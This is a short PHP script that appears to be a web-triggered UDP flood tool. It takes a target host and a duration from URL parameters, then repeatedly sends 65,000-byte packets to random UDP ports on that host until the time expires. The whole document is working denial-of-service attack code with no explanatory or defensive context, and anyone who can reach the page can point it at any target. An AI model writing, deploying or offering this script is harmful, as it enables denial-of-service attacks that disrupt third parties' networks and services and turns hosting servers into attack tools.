<?php
$host = $_GET['host'];
$end = time() + (int)$_GET['time'];
$data = str_repeat('X', 65000);
while (time() < $end) {
    $fp = fsockopen('udp://' . $host, rand(1, 65000), $e, $s, 5);
    if ($fp) { fwrite($fp, $data); fclose($fp); }
}
